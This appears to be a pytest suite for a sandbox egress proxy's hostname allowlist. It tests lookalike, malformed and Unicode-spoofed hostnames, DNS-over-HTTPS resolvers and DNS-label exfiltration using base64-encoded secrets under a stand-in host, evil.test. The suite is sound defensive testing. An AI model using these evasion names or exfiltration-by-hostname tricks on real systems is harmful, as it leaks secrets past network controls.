"""Names that look like an allowed one, in a strict run; and names as a way to carry data out."""

from __future__ import annotations

import pytest

from hostile.conftest import Bench
from hostile.sandbox import statuses
from hostile.test_authority import get


@pytest.mark.parametrize(
    "host",
    [
        "evilexample.org", "xexample.org", "example.org", "example.org.evil.test", "a.example.org.evil.test",
        "a.example.organic", "aexample.org", "xapi.example.com", "api.example.com.evil.test", "sub.api.example.com",
        "example.com", "api-example.com", "api.example.co", "api.examp1e.com", "127.0.0.1.example.org.evil.test",
        "xn--pi-vla.example.com", "github.com", "dns.google", "cloudflare-dns.com", "one.one.one.one", "1.1.1.1",
    ],
)  # fmt: skip
def test_a_name_that_only_resembles_an_allowed_one_is_denied_unasked(bench: Bench, host: str) -> None:
    tunnel = bench.strict.in_tunnel(f"{host}:443", get(host))
    plain = bench.strict.exchange(get(host, f"http://{host}/"))
    looked_up = bench.strict.ask(do="resolve", name=host)["address"]

    assert (statuses(tunnel.connect), statuses(plain)) == ([403], [403])
    assert looked_up in ("", host)
    assert (bench.internet.packets, bench.internet.queries) == ([], [])


@pytest.mark.parametrize(
    "host",
    [
        "api..example.com", ".api.example.com", "api.example.com..", f"{'a' * 64}.example.org",
        ".".join(["a" * 60] * 5) + ".example.org", "-a.example.org", "a-.example.org", "a b.example.org",
        "xn--.example.org", "xn--a.example.org", "ap\u0131.example.com", "api\u3002example\u3002com",
        "api.example\uff0ecom", "ap\u00adi.example.com", "api\u200d.example.com", "api.example.com\u2024evil.test",
        "0x7f.1", "127.1", "2130706433", "0177.0.0.1", "127.0.0.1.", "1.2.3", "a.example.org\u0000", "a.example.org%",
    ],
    ids=ascii,
)  # fmt: skip
def test_a_name_that_is_none_is_malformed(bench: Bench, host: str) -> None:
    target = host.encode().decode("latin-1")

    tunnel = bench.strict.in_tunnel(f"{target}:443", get("api.example.com"), server_name="api.example.com")

    assert statuses(tunnel.connect) in ([400], [403])
    assert (bench.internet.packets, bench.internet.queries) == ([], [])


@pytest.mark.parametrize(
    "host", ["api.example.com", "API.Example.COM", "api.example.com.", "A.EXAMPLE.ORG", "x.y.example.org"]
)
def test_an_allowed_name_in_another_spelling_is_the_same_name(bench: Bench, host: str) -> None:
    canonical = host.lower().rstrip(".")
    bench.internet.name("x.y.example.org", "93.184.216.38")

    tunnel = bench.strict.in_tunnel(f"{host}:443", get(host), server_name=canonical)

    assert statuses(tunnel.connect) == [200]
    assert {one.server_name for one in bench.internet.connections} <= {canonical}
    assert set(bench.internet.queries) <= {canonical}


def test_a_credentialed_name_in_another_spelling_is_one_credential(bench: Bench) -> None:
    came = bench.free.in_tunnel("API.GitHub.COM.:443", get("Api.Github.Com"), server_name="api.github.com").came

    assert statuses(came) == [200]
    assert bench.internet.bytes_seen.count(b"s3cr3t") == 1
    assert b"Host: api.github.com\r\n" in bench.internet.bytes_seen


@pytest.mark.parametrize(
    "pattern",
    ["*example.org", "exa*.org", "*.com", "*.co.uk", "*.*.amazonaws.com", "a.*.example.org", "**", "*.", ".example.org",
     "example.org/path", "https://example.org", "user@example.org", "example.org:99999", "[::1", "1.2.3.4/8"],
)  # fmt: skip
def test_a_pattern_that_means_more_or_less_than_it_says_is_an_error(bench: Bench, pattern: str) -> None:
    done = bench.made.run("run", bench.made.home, "--allow-host", pattern, "--dry-run", "--", "true")

    assert done.returncode == 2
    assert b"error:" in done.stderr


def test_the_resolver_inside_knows_allowed_names_only_and_asks_nobody(bench: Bench) -> None:
    known = {
        name: bench.strict.ask(do="resolve", name=name)["address"] for name in ("api.example.com", "deep.example.org")
    }
    unknown = bench.strict.ask(do="resolve", name="c2VjcmV0.evil.test")["address"]

    assert all(address.startswith("127.107.") for address in known.values())
    assert len(set(known.values())) == 2
    assert unknown == ""
    assert bench.internet.queries == []


def test_a_denied_connection_is_never_looked_up(bench: Bench) -> None:
    bench.strict.in_tunnel("czNjcjN0.evil.test:443", get("evil.test"))
    bench.strict.exchange(get("czNjcjN0.evil.test", "http://czNjcjN0.evil.test/"))

    assert (bench.internet.queries, bench.internet.packets) == ([], [])


def test_dns_over_https_and_tls_are_denied_unless_allowed(bench: Bench) -> None:
    answers = [statuses(bench.strict.in_tunnel(f"{host}:{port}", get(host)).connect)
               for host in ("1.1.1.1", "8.8.8.8", "dns.google", "cloudflare-dns.com")
               for port in (443, 853)]  # fmt: skip

    assert answers == [[403]] * 8
    assert bench.internet.packets == []
